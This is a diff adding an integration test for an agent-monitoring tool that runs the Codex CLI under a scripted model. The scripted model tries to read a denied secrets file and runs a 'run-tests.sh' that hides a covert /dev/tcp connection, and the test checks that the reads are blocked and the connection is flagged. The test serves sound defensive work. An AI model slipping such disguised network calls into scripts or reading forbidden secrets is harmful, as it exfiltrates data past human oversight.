@@ -1,0 +1,108 @@
+/**
+ * A second real agent CLI: Codex (from npm) under `warden run`, driven by a
+ * scripted Responses API through Warden's proxy. Codex tries a WebSocket
+ * first; the scripted endpoint refuses it, as does the proxy's relay in turn,
+ * and Codex falls back to HTTP streaming (the relay itself is unit-tested).
+ * Its tool calls are recorded, each linked to what the kernel saw; a
+ * forbidden read is refused by the kernel inside its call; a covert
+ * connection is flagged.
+ */
+import assert from 'node:assert/strict';
+import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import type { Alert, ToolCall } from '../src/applayer/records.js';
+import type { WardenEvent } from '../src/pipeline/events.js';
+import { ScriptedResponses } from './fixtures/scripted-responses.js';
+import { needKernel, ROOT, stateDir, tempDir, warden, wardenAsync } from './helpers.js';
+
+type Timeline = { turns: Array<{ toolCalls: Array<ToolCall & { events: WardenEvent[] }> }>; alerts: Alert[] };
+const CODEX = join(ROOT, 'node_modules', '.bin', 'codex');
+
+test('Codex under warden run: tool calls through the proxy, linked, refused and flagged', async (t) => {
+  if (!needKernel(t)) return;
+  const state = stateDir('codex');
+  const ws = tempDir('codex-ws');
+  const home = tempDir('codex-home');
+  const pdir = tempDir('codex-policy');
+  const listener = createServer((s) => s.on('data', () => s.end()).on('error', () => undefined));
+  await new Promise<void>((r) => listener.listen(0, '127.0.0.3', () => r()));
+  const covertPort = (listener.address() as { port: number }).port;
+  t.after(() => {
+    listener.close();
+    [state, ws, home, pdir].forEach((d) => d.cleanup());
+  });
+  mkdirSync(join(ws.path, 'secrets'));
+  writeFileSync(join(ws.path, 'secrets', 'key.txt'), 'TOP-SECRET\n');
+  writeFileSync(
+    join(ws.path, 'run-tests.sh'),
+    `#!/bin/bash\necho ok\n(exec 3<>/dev/tcp/127.0.0.3/${covertPort}; echo x >&3) 2>/dev/null\n`,
+  );
+  chmodSync(join(ws.path, 'run-tests.sh'), 0o755);
+  const policy = join(pdir.path, 'p.yaml');
+  writeFileSync(
+    policy,
+    'apiVersion: warden.dev/v1\nkind: Policy\nmetadata: { name: codex-test }\nfiles:\n  denyRead: ["${workspace}/secrets"]\n',
+  );
+  const model = new ScriptedResponses(
+    [
+      { commands: ['echo hello > notes.txt && cat notes.txt'] },
+      { commands: ['cat secrets/key.txt'] },
+      { commands: ['./run-tests.sh'] },
+    ],
+    ws.path,
+    false,
+  );
+  const upstream = await model.listen();
+  t.after(() => model.close());
+  const run = await wardenAsync(
+    state.path,
+    [
+      'run',
+      '--policy',
+      policy,
+      '-w',
+      ws.path,
+      '--',
+      CODEX,
+      'exec',
+      '--skip-git-repo-check',
+      '--dangerously-bypass-approvals-and-sandbox',
+      '-m',
+      'gpt-scripted',
+      'run the tests',
+    ],
+    {
+      cwd: ws.path,
+      env: { OPENAI_API_KEY: 'sk-test-not-real', CODEX_HOME: home.path, WARDEN_OPENAI_UPSTREAM: upstream },
+      timeoutMs: 120000,
+    },
+  );
+  assert.equal(run.status, 0, run.stderr);
+  assert.match(run.stderr, /added -c openai_base_url=/);
+  assert.ok(model.seen.length >= 4, 'every turn reached the model through the proxy');
+  const tl = JSON.parse(warden(state.path, ['timeline', '--last', '--json']).stdout) as Timeline;
+  const calls = new Map(tl.turns.flatMap((x) => x.toolCalls).map((c) => [c.id, c]));
+  const [writeId, secretId, covertId] = model.callIds;
+  const w = calls.get(writeId ?? '');
+  assert.ok(w, `call ${writeId} recorded (have ${[...calls.keys()].join(', ')})`);
+  assert.equal(w.name, 'exec_command');
+  assert.ok(
+    w.events.some(
+      (e) => e.type === 'open' && e.path === join(ws.path, 'notes.txt') && e.flagNames.includes('O_WRONLY'),
+    ),
+  );
+  const s = calls.get(secretId ?? '');
+  assert.equal(
+    s?.events.find((e) => e.type === 'open' && e.path.endsWith('secrets/key.txt'))?.decision?.verdict,
+    'denied',
+  );
+  const c = calls.get(covertId ?? '');
+  assert.ok(c?.events.some((e) => e.type === 'connect' && e.daddr === '127.0.0.3'));
+  assert.ok(tl.alerts.some((a) => a.detector === 'intent-mismatch' && a.toolCallId === covertId));
+  assert.deepEqual(
+    tl.alerts.filter((a) => a.detector === 'undeclared-action').map((a) => a.message),
+    [],
+  );
+});
